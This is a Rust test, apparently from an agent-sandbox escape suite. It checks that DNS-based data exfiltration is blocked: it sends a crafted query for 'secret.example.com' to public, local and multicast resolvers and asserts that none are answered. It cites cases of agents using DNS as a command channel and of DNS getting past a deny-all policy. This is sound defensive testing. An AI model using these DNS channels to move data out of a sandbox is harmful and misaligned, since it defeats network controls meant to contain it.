use super::connect::{leaves, tcp, udp};
use crate::attack::{Attack, Class, Tries, Verdict};
use crate::kernel::read_text;

pub const ATTACK: Attack = Attack {
    name: "dns",
    tries: "carries data out in names that it asks for: DNS by UDP, TCP, TLS and HTTPS, multicast names, ICMP",
    stands_for: "AgentCore interpreter (DNS as command channel), OpenShell 1169 (DNS past a deny-all policy)",
    must: "no question leaves, whoever is named as resolver",
    ..Attack::new(Class::Network, run)
};

/// "A" of a name that could hold a secret.
const QUESTION: &[u8] = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x03com\x00\x00\x01\x00\x01";

fn run() -> Verdict {
    let mut tries = Tries::default();
    let named = read_text("/etc/resolv.conf");
    let named = named
        .lines()
        .filter_map(|line| line.strip_prefix("nameserver "))
        .map(|host| format!("{}:53", host.trim()));
    let known = [
        "8.8.8.8:53",
        "1.1.1.1:53",
        "9.9.9.9:53",
        "[2001:4860:4860::8888]:53",
        "127.0.0.53:53",
        "127.0.0.11:53",
        "224.0.0.251:5353",
    ];
    for server in known.iter().map(ToString::to_string).chain(named) {
        tries.refused(&format!("an answer from {server}"), udp(&server, QUESTION));
        tries.refused(&format!("connect to {server}"), tcp(&server));
    }
    for outside in [
        "8.8.8.8:53",
        "1.1.1.1:853",
        "8.8.8.8:443",
        "224.0.0.251:5353",
        "255.255.255.255:67",
        "[ff02::fb]:5353",
    ] {
        tries.check(&format!("a packet left for {outside}"), !leaves(outside));
    }
    tries.verdict()
}
